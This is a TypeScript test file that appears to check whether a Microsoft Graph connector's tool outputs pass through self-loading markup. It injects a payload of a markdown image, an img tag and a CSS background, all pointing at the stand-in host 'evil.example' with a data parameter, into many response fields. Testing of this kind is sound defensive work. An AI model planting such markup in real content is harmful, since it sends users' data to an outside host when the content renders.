import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { resourcesToRead } from "#test/bench/round-trips/resources-to-read.ts";
import { extractHere, type OnAnswer } from "#test/support/person-asking.ts";
import { selfLoading } from "#test/support/self-loading.ts";
import { questions } from "#test/tools/tools.ts";
import { type SpoiltWorld, startSpoiltWorld } from "./spoilt-world.ts";

const evil = "https://evil.example/?d=";
const payload = `![x](${evil}1) <img src=${evil}2> <b style="background:url(${evil}3)">x`;

/** Properties by whose value the connector decides what to do next. */
const fixed = /id$|type$|^@odata|time|date|zone|status|content-/i;
/** Which properties have the payload: one kind alone may be refused, or replaced by another. */
const kinds: Readonly<Record<string, (name: string) => boolean>> = {
  "every text": () => true,
  "every text but addresses": (name) => !/url|link|address|mail/i.test(name),
  "every text but names and addresses": (name) => !/url|link|address|mail|name|path/i.test(name),
  "web addresses": (name) => /url|link/i.test(name),
  "mail addresses": (name) => /address|mail|principal/i.test(name),
  names: (name) => /name|path|subject|title/i.test(name),
};

let world: SpoiltWorld;
let asked: (readonly [string, Readonly<Record<string, unknown>>])[];

beforeAll(async () => {
  world = await startSpoiltWorld(extractHere);
  const read = await resourcesToRead(world.client);
  asked = [
    ...questions.flatMap(([tool, list]) => list.map((one) => [tool, one] as const)),
    ...read.map((one) => ["read_resource", one] as const),
  ];
});
afterAll(() => world.close());

function withPayload(value: unknown, name: string, isChosen: (name: string) => boolean): unknown {
  if (typeof value === "string") {
    const isFixed = fixed.test(name) || /^[\d-]{8,}T|^\d+$/.test(value);
    return isFixed || !isChosen(name) ? value : `${value}${payload}`;
  }
  if (Array.isArray(value)) return value.map((inner) => withPayload(inner, name, isChosen));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, withPayload(inner, key, isChosen)]));
}

const spreading =
  (isChosen: (name: string) => boolean): OnAnswer =>
  (_request, answer) => {
    if (answer.status !== 200 || !`${answer.headers["content-type"]}`.includes("json")) return answer;
    const spoilt = withPayload(JSON.parse(answer.body.toString()), "", isChosen);
    return { ...answer, body: Buffer.from(JSON.stringify(spoilt)) };
  };

/** The texts that came from the payload, each with the names of the properties around it. */
function textsIn(value: unknown, path: string): { path: string; text: string }[] {
  if (typeof value === "string") return value.includes("evil.example") ? [{ path, text: value }] : [];
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([name, inner]) =>
    textsIn(inner, Array.isArray(value) ? `${path}.*` : `${path}.${name}`),
  );
}

describe("markup that loads something by itself, in what Graph says of anything", () => {
  const shown = new Set<string>();

  test.each(Object.entries(kinds))("is text in the answers of all tools: in %s", async (_what, isChosen) => {
    const loading = new Set<string>();
    for (const [tool, args] of asked) {
      const outcome = await world.asking.ask(tool, args, spreading(isChosen));
      if (!("output" in outcome)) continue;
      for (const { path, text } of textsIn(outcome.output, tool)) {
        shown.add(path);
        if (selfLoading(text).length > 0) loading.add(path);
      }
    }
    expect([...loading]).toEqual([]);
  });

  test("was in the answers, in many of their properties", () => {
    expect(shown.size).toBeGreaterThan(100);
  });
});
